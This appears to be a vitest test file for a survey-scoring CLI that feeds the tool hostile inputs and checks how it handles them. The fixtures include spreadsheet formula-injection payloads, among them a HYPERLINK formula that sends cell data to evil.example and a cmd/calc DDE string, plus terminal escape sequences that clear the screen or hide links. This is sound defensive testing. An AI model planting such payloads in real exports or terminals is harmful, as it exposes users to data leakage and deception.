// Inputs that once hung, took unbounded memory, or gave a wrong number or message (issue 14,
// items 8–13, 15–17), run in-process with a fake Io unless only a process shows the fault.

import { parse as parseCsv } from 'csv-parse/sync';
import { execFileSync } from 'node:child_process';
import { createWriteStream, mkdtempSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli.js';
import { NpsError } from '../../src/core/errors.js';
import { fakeIo, stdoutOf } from '../support/fake-io.js';
import { workbook, workbookParts, zip } from '../support/zip.js';
import { execa } from 'execa';
import { BIN, nps } from '../e2e/run-nps.js';

const dir = mkdtempSync(join(tmpdir(), 'nps-hostile-'));
const save = (name: string, bytes: string | Buffer): string => {
  const path = join(dir, name);
  writeFileSync(path, bytes);
  return path;
};

/** The error a run ends with (a test fails when it ends without one). */
async function failure(args: string[], env: Record<string, string> = {}): Promise<NpsError> {
  const error = await runCli(args, fakeIo(env)).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(NpsError);
  return error as NpsError;
}

describe('a record of millions of fields (item 8)', () => {
  it('a 5,000,000-column header is refused at 100,000 fields, naming the row and the delimiter', async () => {
    // 10 MB of header: it once took 608 MB to hold as fields.
    const path = save('wide-header.csv', `score,${'x,'.repeat(5_000_000)}\n9\n`);
    const error = await failure(['score', path]);
    expect(error.message).toBe(`${path}: row 1 (line 1) has more than 100,000 fields; refused`);
    expect(error.hint).toContain('--delimiter');
    expect(error.kind).toBe('input');
  });

  it('a data row of 200,000 fields in a part counted on a thread says the same (the built CLI: threads)', async () => {
    const rows = Array.from({ length: 2000 }, (_, i) => `${i},${i % 11}`);
    rows[1500] = `1500,${'9,'.repeat(200_000)}`;
    const path = save('wide-row.csv', `id,score\n${rows.join('\n')}\n`);
    const run = await nps(['score', path], { env: { NPS_PARALLEL_BYTES: '0', NPS_PART_BYTES: '20000' } });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain(`${path}: row 1502 (line 1502) has more than 100,000 fields; refused`);
  });
});

describe('pipes and devices given as paths (item 9)', () => {
  /** A FIFO at a fresh path (its writer opens it in the test). */
  function fifo(name: string): string {
    const path = join(dir, name);
    execFileSync('mkfifo', [path]);
    return path;
  }
  const header = 'id,score,comment\n';
  const rows = (n: number, from = 0): string => Array.from({ length: n }, (_, i) => `${from + i},${(from + i) % 11},${'c'.repeat(40)}\n`).join('');

  it('a FIFO is streamed: a bad row early ends the run while the writer still holds the pipe open', async () => {
    // Read whole (as it was: its size is 0, so one readFileSync), the run waited for an end that never came.
    const path = fifo('open.csv');
    const writer = createWriteStream(path).on('error', () => undefined);
    writer.write(header + rows(2000) + '2000,eleven,x\n' + rows(2000, 2001));
    try {
      const error = await failure(['score', path, '--strict']);
      expect(error.message).toBe(`${path}: row 2002 has an invalid score in column "score": "eleven" (--strict)`);
    } finally {
      writer.destroy();
    }
  }, 20_000);

  it('a FIFO gives the same answer as the file, once', async () => {
    const text = header + rows(5000);
    const path = fifo('whole.csv');
    const writer = createWriteStream(path);
    writer.end(text);
    const io = fakeIo();
    const out = await runCli(['score', path, '--format', 'json'], io);
    // 5,000 scores 0–10 in turn: 454 × 11 + 6 (0–5): promoters 2 × 454, detractors 7 × 454 + 6.
    expect(JSON.parse(await stdoutOf(out)).overall).toMatchObject({ responses: 5000, promoters: 908, passives: 908, detractors: 3184 });
  });

  it('several metrics from a FIFO: one read serves them all (before, a second read waited for ever)', async () => {
    const path = fifo('twice.csv');
    // Scores 0–10 in turn, and a CSAT 1–5 answer (the row number's remainder by 5, plus 1).
    const lines = ['score,Satisfaction (1-5)'];
    for (let i = 0; i < 5000; i++) lines.push(`${i % 11},${(i % 5) + 1}`);
    createWriteStream(path).end(`${lines.join('\n')}\n`);
    const out = await runCli(['score', path, '--metric', 'nps,csat', '--format', 'json'], fakeIo());
    const { nps: n, csat } = JSON.parse(await stdoutOf(out)).metrics;
    expect(n.overall).toMatchObject({ responses: 5000, promoters: 908, passives: 908, detractors: 3184 });
    // 4 and 5 are satisfied: 2 of every 5 answers.
    expect(csat.overall).toMatchObject({ responses: 5000, satisfied: 2000 });
  });

  it('a workbook through a FIFO is read from memory, as from standard input', async () => {
    const path = fifo('book.xlsx');
    const book = workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>NPS</t></is></c></row><row r="2"><c r="A2"><v>10</v></c></row><row r="3"><c r="A3"><v>3</v></c></row>');
    createWriteStream(path).end(book);
    const out = await runCli(['score', path, '--format', 'json'], fakeIo());
    expect(JSON.parse(await stdoutOf(out)).overall).toMatchObject({ responses: 2, promoters: 1, detractors: 1 });
  });

  it.each(['/dev/zero', '/dev/null'])('%s, a character device, is refused at once', async (device) => {
    // /dev/zero grew without end.
    const error = await failure(['score', device]);
    expect(error.message).toBe(`${device}: is a device, not a survey export`);
  });
});

describe('a file that changes while it is read (item 10)', () => {
  // A title row above the header: the line saying so comes once the sample is read, before the count goes on.
  const TITLED = 'are titles, not answers';
  const csv = (n: number): string => `Survey export\nid,score,note\n${Array.from({ length: n }, (_, i) => `${i},${i % 11},n`).join('\n')}\n`;

  /**
   * The error of a run whose file `change` alters at the first stderr line holding `at` (said
   * once the sample is read, before the count goes on), and whether the change happened.
   */
  async function changedWhileRead(args: string[], at: string, change: () => void, env: Record<string, string> = {}, stdinFile?: string): Promise<{ error: NpsError; changed: boolean }> {
    let changed = false;
    const io = fakeIo(env);
    if (stdinFile !== undefined) io.stdinFile = () => stdinFile;
    io.say = (line) => {
      if (!changed && line.includes(at)) {
        change();
        changed = true;
      }
    };
    const error = await runCli(args, io).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(NpsError);
    return { error: error as NpsError, changed };
  }
  const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

  it('truncated once its sample is read: an error, not a count of neither', async () => {
    const path = save('truncated.csv', csv(100_000));
    const { error, changed } = await changedWhileRead(['score', path, '--encoding', 'utf-8'], TITLED, () => truncateSync(path, 300_000));
    expect(changed).toBe(true);
    expect(error.message).toBe(`${path}: the file changed while it was read (its size went from 998,008 to 300,000 bytes); the count would match neither version`);
  });

  it('standard input that is a file, truncated while read: said of stdin', async () => {
    const path = save('redirected.csv', csv(100_000));
    const { error, changed } = await changedWhileRead(['score', '-', '--encoding', 'utf-8'], TITLED, () => truncateSync(path, 300_000), {}, path);
    expect(changed).toBe(true);
    expect(error.message).toBe('stdin: the file changed while it was read (its size went from 998,008 to 300,000 bytes); the count would match neither version');
  });

  it('written to (same size, a later time) while read: said too', async () => {
    const path = save('rewritten.csv', csv(100_000));
    const { error } = await changedWhileRead(['score', path, '--encoding', 'utf-8'], TITLED, () => utimesSync(path, new Date('2030-01-01'), new Date('2030-01-01')));
    expect(error.message).toBe(`${path}: the file changed while it was read (it was written to); the count would match neither version`);
  });

  it('a workbook cut short while its sheet streams: said, not called damaged', async () => {
    const body = Array.from({ length: 50_000 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i % 11}</v></c><c r="B${i + 2}" t="inlineStr"><is><t>${'w'.repeat(i % 37)}${i}</t></is></c></row>`).join('');
    const header = '<row r="1"><c r="A1" t="inlineStr"><is><t>NPS</t></is></c><c r="B1" t="inlineStr"><is><t>note</t></is></c></row>';
    // Two sheets, so that the one chosen is named (once its sample is read, before the count goes on).
    const parts = workbookParts([
      { name: 'Data', rows: header + body },
      { name: 'Notes', rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>read me</t></is></c></row>' },
    ]);
    // Its sheet read on the main thread, and on a thread of its own (xlsx-thread.ts).
    for (const [name, env] of [['truncated.xlsx', {}], ['truncated-threaded.xlsx', { NPS_XLSX_THREAD_BYTES: '0' }]] as const) {
      const path = save(name, zip(parts));
      const { error, changed } = await changedWhileRead(['score', path], 'using sheet', () => truncateSync(path, 40_000), env);
      expect(changed).toBe(true);
      expect(error.message).toMatch(new RegExp(`^${escaped(path)}: the file changed while it was read \\(its size went from [\\d,]+ to 40,000 bytes\\)`));
    }
  });

  it('truncated during a run on two threads, once its sample is read', async () => {
    // Parts of 8 KB, counted by threads (their worker is the built one); the file is cut at the
    // line said before counting starts, so the check runs after the parts whatever the timing.
    const path = save('truncated-threads.csv', csv(400_000));
    const env = { NPS_PARALLEL_BYTES: '0', NPS_PART_BYTES: '8000' };
    const { error, changed } = await changedWhileRead(['score', path, '--encoding', 'utf-8'], TITLED, () => truncateSync(path, 1_000_000), env);
    expect(changed).toBe(true);
    expect(error.message).toMatch(new RegExp(`^${escaped(path)}: the file changed while it was read \\(its size went from [\\d,]+ to 1,000,000 bytes\\)`));
  });
});

describe('CSV output that a spreadsheet would run (item 11)', () => {
  // Customer comments and group names as an attacker would write them; scores and a numeric group stay numbers.
  const path = save(
    'formulas.csv',
    [
      'id,channel,score,comment',
      `1,=HYPERLINK("http://evil.example/?"&A1;"help"),2,"+cmd|'/C calc'!A0"`,
      '2,@SUM(1+1),3,=1+1',
      '3,-5,9,-2+3',
      '4,web,10,fine',
    ].join('\n') + '\n',
  );
  const run = async (...args: string[]): Promise<string[][]> => {
    const out = await runCli(args, fakeIo());
    return parseCsv(await stdoutOf(out)) as string[][];
  };

  it('list --format csv: text cells get a leading quote mark, numbers stay', async () => {
    const rows = await run('list', path, '--detractors', '--format', 'csv');
    expect(rows[1]).toEqual(['1', `'=HYPERLINK("http://evil.example/?"&A1;"help")`, '2', "'+cmd|'/C calc'!A0", 'detractor']);
    expect(rows[2]).toEqual(['2', "'@SUM(1+1)", '3', "'=1+1", 'detractor']);
    const all = await run('list', path, '--promoters', '--format', 'csv');
    // "-5" is a number as a spreadsheet reads it: kept; "-2+3" is a formula: guarded.
    expect(all[1]).toEqual(['4', 'web', '10', 'fine', 'promoter']);
    expect(all[2]).toEqual(['3', '-5', '9', "'-2+3", 'promoter']);
  });

  it('score --by --format csv: group names guarded, the numbers (NPS -100) as they are', async () => {
    const rows = await run('score', path, '--by', 'channel', '--format', 'csv');
    const keys = rows.slice(2).map((r) => r[0]);
    expect(keys).toEqual(['-5', `'=HYPERLINK("http://evil.example/?"&A1;"help")`, "'@SUM(1+1)", 'web']);
    expect(rows[3]?.[8]).toBe('-100'); // nps: the one answer in the group is a detractor
  });

  it('--raw writes every cell as it is (list, score, drivers; every CSV goes through csvField)', async () => {
    const listed = await run('list', path, '--detractors', '--format', 'csv', '--raw');
    expect(listed[1]?.[1]).toBe('=HYPERLINK("http://evil.example/?"&A1;"help")');
    expect(listed[2]?.[3]).toBe('=1+1');
    const scored = await run('score', path, '--by', 'channel', '--format', 'csv', '--raw');
    expect(scored[4]?.[0]).toBe('@SUM(1+1)');
    const drivers = await run('drivers', path, '--by', 'channel', '--format', 'csv', '--raw');
    expect(drivers.map((r) => r[1])).toContain('@SUM(1+1)');
    const guarded = await run('drivers', path, '--by', 'channel', '--format', 'csv');
    expect(guarded.map((r) => r[1])).toContain("'@SUM(1+1)");
  });
});

describe('terminal escapes in the file (item 12)', () => {
  const ESC = '\u001b';
  // A group name that clears the screen, one that is a hidden link, a comment that sets the window title.
  const clear = `${ESC}[2Jweb`;
  const link = `${ESC}]8;;http://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`;
  const title = `${ESC}]0;pwned\u0007 hi`;
  // Few enough among plain rows that the file is still text, not binary.
  const channel = (i: number): string => (i % 20 === 1 ? clear : i % 20 === 2 ? link : 'web');
  const comment = (i: number): string => (i % 20 === 3 ? title : i % 20 === 4 ? 'a\rb' : 'fine thanks');
  const rows = Array.from({ length: 400 }, (_, i) => `${i},"${channel(i)}",${i % 11},"${comment(i)}",2025-0${1 + (i % 3)}-01`);
  const path = save('escapes.csv', `id,channel,score,comment,date\n${rows.join('\n')}\n`);
  const tableOf = async (...args: string[]): Promise<string> => stdoutOf(await runCli(args, fakeIo()));

  it.each([
    ['score --by', ['score', path, '--by', 'channel']],
    ['score --by, markdown', ['score', path, '--by', 'channel', '--format', 'markdown']],
    ['trend --by', ['trend', path, '--by', 'channel']],
    ['drivers', ['drivers', path, '--by', 'channel']],
    ['compare --by', ['compare', path, '--by', 'channel', '--a', clear, '--b', link]],
    ['list', ['list', path, '--detractors']],
    ['inspect', ['inspect', path]],
  ])('%s: no control character reaches the terminal; each shows as an escape', async (_name, args) => {
    const out = await tableOf(...args);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(out).toMatch(/\\u001b(\[2Jweb|\]8;;http:\/\/evil)/);
  });

  it('the comments that list shows: ESC, BEL and a lone CR visible, the text kept', async () => {
    const out = await tableOf('list', path, '--detractors', '--passives', '--promoters', '--columns', 'id,comment');
    expect(out).toContain('\\u001b]0;pwned\\u0007 hi');
    expect(out).toContain('a\\rb');
  });

  it('JSON and CSV keep the text as it is (JSON escapes it; CSV is data)', async () => {
    const json = JSON.parse(await tableOf('score', path, '--by', 'channel', '--format', 'json'));
    expect(json.groups.map((g: { key: { channel: string } }) => g.key.channel)).toEqual([clear, link, 'web']);
    const csv = parseCsv(await tableOf('score', path, '--by', 'channel', '--format', 'csv')) as string[][];
    expect(csv.slice(2).map((r) => r[0])).toEqual([clear, link, 'web']);
  });

  it('stderr too: a gate naming the group', async () => {
    const run = await nps(['score', path, '--by', 'channel', '--min-group', '100', '--min-responses', '1', '--format', 'json']);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain('group channel=\\u001b[2Jweb');
    expect(run.stderr).not.toContain(ESC);
  });
});

describe('output that cannot be written (item 13, the built CLI: only a process shows it)', () => {
  const rows = Array.from({ length: 3000 }, (_, i) => `${i},${i % 11}`).join('\n');
  const path = save('many-groups.csv', `id,score\n${rows}\n`);

  it('to /dev/full (no space left on device): one line and exit 74, not a stack and the gate code 1', async () => {
    // Before: ~10 KB of the bundle's source and a stack trace, exit 1.
    const run = await execa('bash', ['-c', `exec node "${BIN}" score "${path}" --by id --format json > /dev/full`], { reject: false, env: { NO_COLOR: '1' } });
    expect(run.exitCode).toBe(74);
    expect(run.stderr.split('\n').slice(-2)).toEqual(['nps: error: cannot write the output: no space left on device', '  Free some space, or write the output elsewhere, and run again.']);
  });

  it('to a file that cannot grow (ulimit -f, as a full file system): the same, exit 74, not "internal error"', async () => {
    const out = join(dir, 'out.json');
    const run = await execa('bash', ['-c', `ulimit -f 1; exec node "${BIN}" score "${path}" --by id --format json > "${out}"`], { reject: false, env: { NO_COLOR: '1' } });
    expect(run.exitCode).toBe(74);
    expect(run.stderr).toContain('nps: error: cannot write the output: the file is too large');
    expect(run.stderr).not.toContain('internal error');
  });

  it('stderr that cannot be written does not change the exit code (0 for a good run, 1 for a failed gate)', async () => {
    const good = await execa('bash', ['-c', `exec node "${BIN}" score "${path}" 2>/dev/full >/dev/null`], { reject: false });
    expect(good.exitCode).toBe(0);
    const gated = await execa('bash', ['-c', `exec node "${BIN}" score "${path}" --min 99 2>/dev/full >/dev/null`], { reject: false });
    expect(gated.exitCode).toBe(1);
  });
});

describe('ragged rows do not move the header (item 15)', () => {
  const scoreOf = async (text: string, name: string): Promise<{ overall: Record<string, number>; warnings: string[] }> => {
    const io = fakeIo();
    const out = await runCli(['score', save(name, text), '--format', 'json'], io);
    return { overall: JSON.parse(await stdoutOf(out)).overall, warnings: io.warnings };
  };

  it('a two-column export with one comment of unquoted commas: the header stays row 1', async () => {
    // Before: row 1 was taken for a title, row 3 for the header, and "no score column".
    const { overall, warnings } = await scoreOf('score,comment\n9,great\n3,slow, rude, late and, frankly, awful\n10,fine\n7,ok\n8,good\n', 'ragged-one.csv');
    expect(overall).toMatchObject({ responses: 5, promoters: 2, passives: 2, detractors: 1 });
    expect(warnings.join('\n')).toContain('1 row has more fields than the header (row 3)');
    expect(warnings.join('\n')).not.toContain('titles');
  });

  it('four such rows among twenty: still row 1', async () => {
    const rows = Array.from({ length: 20 }, (_, i) => (i % 5 === 2 ? `${i % 11},a, b, c, d, e` : `${i % 11},fine`));
    const { overall } = await scoreOf(`score,comment\n${rows.join('\n')}\n`, 'ragged-four.csv');
    expect(overall.responses).toBe(20);
  });

  it('a real title above a header still is one', async () => {
    const rows = Array.from({ length: 20 }, (_, i) => `${i},${i % 11},web`);
    const { overall, warnings } = await scoreOf(`NPS export March 2025\nid,score,channel\n${rows.join('\n')}\n`, 'titled.csv');
    expect(overall.responses).toBe(20);
    expect(warnings.join('\n')).toContain('rows above it (1) are titles');
  });
});

describe('the config file (item 16)', () => {
  /** A directory holding nps.config.json with this text, and an export. */
  const project = (config: string | Buffer): { cwd: string; file: string } => {
    const cwd = mkdtempSync(join(dir, 'project-'));
    writeFileSync(join(cwd, 'nps.config.json'), config);
    const file = join(cwd, 'export.csv');
    writeFileSync(file, 'id,score,comment\n1,3,too slow\n2,9,good price\n3,2,slow slow\n4,10,fine\n5,7,slow but ok\n');
    return { cwd, file };
  };
  const runIn = (cwd: string, args: string[]) => runCli(args, { ...fakeIo(), cwd });
  const errorIn = async (cwd: string, args: string[]): Promise<NpsError> => {
    const error = await runIn(cwd, args).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(NpsError);
    return error as NpsError;
  };

  it('a BOM before the JSON (Notepad, PowerShell) is read, and the config applies', async () => {
    const { cwd, file } = project(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('{"thresholds":{"min":90}}')]));
    const out = await runIn(cwd, ['score', file, '--format', 'json']);
    // Scores 3, 9, 2, 10, 7: 2 promoters, 2 detractors, NPS 0, below the config's minimum of 90: the gate fails.
    expect(JSON.parse(await stdoutOf(out)).overall.nps).toBe(0);
    expect(out.gateFailures).toEqual(['nps: error: NPS 0.0 is below the minimum 90 (thresholds.min in nps.config.json)']);
  });

  it('a bad input.encoding or input.delimiter is named as the config key, not as a flag', async () => {
    const encoding = project('{"input":{"encoding":"klingon"}}');
    const bad = await errorIn(encoding.cwd, ['score', encoding.file]);
    expect(bad.message).toBe(`${join(encoding.cwd, 'nps.config.json')}: key "input.encoding": "klingon" is not an encoding this tool knows (utf-8, utf-16le, utf-16be, windows-1252 or another WHATWG label)`);
    const delimiter = project('{"input":{"delimiter":"ab"}}');
    const wrong = await errorIn(delimiter.cwd, ['score', delimiter.file]);
    expect(wrong.message).toBe(`${join(delimiter.cwd, 'nps.config.json')}: key "input.delimiter": "ab" is not a delimiter this tool reads (, ; tab |)`);
  });

  it('input.headerRow past the end says so (it said "is empty")', async () => {
    const { cwd, file } = project('{"input":{"headerRow":500}}');
    const error = await errorIn(cwd, ['score', file]);
    expect(error.message).toBe(`${file}: the header row 500 is past the end: the last row is 6`);
    expect(error.hint).toContain('"input.headerRow"');
  });

  it('a theme named __proto__ is a theme like any other, from the config and from --themes (with a BOM)', async () => {
    const { cwd, file } = project('{"themes":{"__proto__":["slow"],"price":["price"]}}');
    const out = await runIn(cwd, ['comments', file, '--format', 'json']);
    const themes = JSON.parse(await stdoutOf(out)).themes as { theme: string; responses: number }[];
    // "slow" is in rows 1, 3 and 5; "price" in row 2.
    expect(themes.map((t) => [t.theme, t.responses]).sort()).toEqual([['__proto__', 3], ['price', 1]]);
    const themesFile = join(cwd, 'themes.json');
    writeFileSync(themesFile, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('{"__proto__":["slow"]}')]));
    const fromFlag = await runIn(cwd, ['comments', file, '--themes', themesFile, '--format', 'json']);
    expect(JSON.parse(fromFlag.stdout).themes.map((t: { theme: string }) => t.theme)).toEqual(['__proto__']);
  });
});

describe('compressed exports (item 17)', () => {
  const rows = Array.from({ length: 30_000 }, (_, i) => `${i},${i % 11},${i % 3 ? 'Malmö' : 'Oslo'}`);
  const text = `id,score,city\n${rows.join('\n')}\n`;
  // 30,000 scores 0–10 in turn: 2,727 × 11 + 3 (0–2): promoters 2 × 2,727, detractors 7 × 2,727 + 3.
  const expected = { responses: 30_000, promoters: 5454, passives: 5454, detractors: 19_092 };
  const overallOf = async (args: string[], stdin?: Buffer): Promise<Record<string, number>> => {
    const io = fakeIo();
    if (stdin) io.stdin = Readable.from([stdin.subarray(0, 1000), stdin.subarray(1000)]);
    return JSON.parse(await stdoutOf(await runCli([...args, '--format', 'json'], io))).overall;
  };

  it('export.csv.gz is read as the CSV it holds', async () => {
    const path = save('export.csv.gz', gzipSync(text));
    expect(await overallOf(['score', path])).toMatchObject(expected);
  });

  it('gzip on standard input too', async () => {
    expect(await overallOf(['score', '-'], gzipSync(text))).toMatchObject(expected);
  });

  it('a gzipped Windows-1252 export falls back as the plain file does (the file is read again, inflated)', async () => {
    const path = save('latin1.csv.gz', gzipSync(Buffer.from(text, 'latin1')));
    const io = fakeIo();
    const out = JSON.parse(await stdoutOf(await runCli(['score', path, '--by', 'city', '--format', 'json'], io)));
    expect(out.groups.map((g: { key: { city: string } }) => g.key.city)).toEqual(['Malmö', 'Oslo']);
  });

  it('damaged gzip data says so', async () => {
    const bytes = gzipSync(text);
    bytes.fill(0x55, 200, 400);
    const error = await failure(['score', save('damaged.csv.gz', bytes)]);
    expect(error.message).toMatch(/: the gzip data is damaged \(Z_DATA_ERROR\)$/);
  });

  it.each([
    ['bzip2', [0x42, 0x5a, 0x68, 0x39], 'is a bzip2-compressed file, not an export', 'bzcat'],
    ['xz', [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00], 'is an xz-compressed file, not an export', 'xzcat'],
    ['zstd', [0x28, 0xb5, 0x2f, 0xfd], 'is a zstd-compressed file, not an export', 'zstdcat'],
    ['7z', [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], 'is a 7-Zip-compressed file, not an export', '7z x'],
  ])('%s: named, with a way to read it', async (name, magic, message, hint) => {
    const path = save(`export.csv.${name}`, Buffer.concat([Buffer.from(magic), Buffer.alloc(200, 7)]));
    const error = await failure(['score', path]);
    expect(error.message).toBe(`${path}: ${message}`);
    expect(error.hint).toContain(hint);
  });

  it('a zip archive holding a CSV is not called a corrupt spreadsheet', async () => {
    const path = save('export.zip', zip({ 'export.csv': text }));
    const error = await failure(['score', path]);
    expect(error.message).toBe(`${path}: is a zip archive, not a workbook (no xl/workbook.xml or ODS content inside)`);
    expect(error.hint).toContain('unzip -p');
  });
});

describe('standard input that stops being UTF-8 (item 17)', () => {
  it('names the byte where it stops, not the end of the last whole read', async () => {
    const head = Buffer.from(`id,score,city\n${Array.from({ length: 20_000 }, (_, i) => `${i},${i % 11},Oslo`).join('\n')}\n`);
    const bytes = Buffer.concat([head, Buffer.from('99,9,Malm'), Buffer.from([0xf6]), Buffer.from('\n')]);
    const io = fakeIo();
    io.stdin = Readable.from([bytes.subarray(0, 65_536), bytes.subarray(65_536, 131_072), bytes.subarray(131_072)]);
    const error = await runCli(['score', '-'], io).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect((error as NpsError).message).toBe(`stdin: not valid UTF-8 after byte ${head.length + 9} (the start of the file was)`);
  });
});

describe('a filter that matches nothing (item 17)', () => {
  const path = save('channels.csv', `id,channel,score,date,comment\n${Array.from({ length: 40 }, (_, i) => `${i},${i % 2 ? 'web' : 'phone'},${i % 11},2025-0${1 + (i % 3)}-10,ok`).join('\n')}\n`);
  const run = async (...args: string[]) => {
    const io = fakeIo();
    const out = await runCli(args, io);
    return { out, warnings: io.warnings };
  };

  it('score: an empty answer, exit 0, and a note naming the filter (it was an error, exit 2)', async () => {
    const { out, warnings } = await run('score', path, '--where', 'channel=fax', '--format', 'json');
    const json = JSON.parse(await stdoutOf(out));
    expect(json.overall).toMatchObject({ responses: 0, promoters: 0, nps: null });
    expect(json.groups).toEqual([]);
    expect(out.gateFailures).toEqual([]);
    expect(warnings).toContain(`nps: warning: ${path}: no answers match --where channel=fax (40 rows left out); the answer is empty`);
  });

  it('--since past the data: the same, naming --since', async () => {
    const { out, warnings } = await run('score', path, '--since', '2030-01-01', '--by', 'channel', '--format', 'json');
    expect(JSON.parse(await stdoutOf(out)).overall.responses).toBe(0);
    expect(warnings).toContain(`nps: warning: ${path}: no answers match --since 2030-01-01 (40 rows left out); the answer is empty`);
  });

  it('every gate asked for fails: there is nothing to judge', async () => {
    const { out } = await run('score', path, '--where', 'channel=fax', '--by', 'channel', '--min', '0', '--min-group', '0');
    expect(out.gateFailures).toEqual(['nps: error: no answers to judge: nothing is left after the filters (--min)', 'nps: error: no answers to judge: nothing is left after the filters (--min-group)']);
    const trend = await run('trend', path, '--where', 'channel=fax', '--max-drop', '5');
    expect(trend.out.gateFailures).toEqual(['nps: error: no answers to judge: nothing is left after the filters (--max-drop)']);
  });

  it('list, drivers and comments answer with nothing, exit 0', async () => {
    const list = await run('list', path, '--detractors', '--where', 'channel=fax', '--format', 'json');
    expect(JSON.parse(await stdoutOf(list.out))).toEqual([]);
    const drivers = await run('drivers', path, '--by', 'channel', '--where', 'channel=fax', '--format', 'json');
    expect(JSON.parse(await stdoutOf(drivers.out)).overall.responses).toBe(0);
    const comments = await run('comments', path, '--comment', 'comment', '--where', 'channel=fax', '--format', 'json');
    expect(JSON.parse(comments.out.stdout).classes.detractors.responses).toBe(0);
  });

  it('with no filter, a column without scores is still an error', async () => {
    const error = await failure(['score', path, '--score', 'channel']);
    expect(error.message).toContain('no valid 0–10 scores in column "channel" (40 rows read, all skipped)');
  });
});

describe('--scale 1-11 and a score column named only "Q5" (item 17)', () => {
  // Answers 1–11 coded as Qualtrics recodes the 0–10 question: row i holds (i mod 11) + 1, the score i mod 11.
  const rows = Array.from({ length: 60 }, (_, k) => `R${k + 1},${((k + 1) % 11) + 1},text ${k + 1}`);
  const path = save('q5.csv', `ResponseId,Q5,Q6\n${rows.join('\n')}\n`);

  it('is taken for the score, and the note says why', async () => {
    const io = fakeIo();
    const out = JSON.parse(await stdoutOf(await runCli(['score', path, '--scale', '1-11', '--format', 'json'], io)));
    // Scores i mod 11 for i = 1 … 60: 9 and 10 five times each, 7 and 8 five times each, the rest 40.
    expect(out.overall).toMatchObject({ responses: 60, promoters: 10, passives: 10, detractors: 40, nps: -50 });
    expect(io.warnings[0]).toBe(`nps: note: ${path}: using score column "Q5": its header names no question, but the answers read ahead are all whole numbers 1–11, as --scale 1-11 reads (--score to choose another)`);
  });

  it('without --scale 1-11 it is not (a header must name the question)', async () => {
    const error = await failure(['score', path]);
    expect(error.message).toContain('no score column found');
  });

  it('two such columns: neither is guessed', async () => {
    const two = save('q5-q7.csv', `ResponseId,Q5,Q7\n${Array.from({ length: 30 }, (_, k) => `R${k},${(k % 11) + 1},${((k * 7) % 11) + 1}`).join('\n')}\n`);
    const error = await failure(['score', two, '--scale', '1-11']);
    expect(error.message).toBe(`${two}: no header names the question, and 2 columns hold only whole numbers 1–11: "Q5", "Q7".`);
  });

  it('row numbers 1, 2, 3 … of a small file are not answers', async () => {
    const ids = save('ids.csv', `n,Q5\n${Array.from({ length: 8 }, (_, k) => `${k + 1},${[3, 11, 9, 1, 6, 10, 11, 2][k]}`).join('\n')}\n`);
    const io = fakeIo();
    const out = JSON.parse(await stdoutOf(await runCli(['score', ids, '--scale', '1-11', '--format', 'json'], io)));
    expect(out.metric.column).toBe('Q5');
  });
});
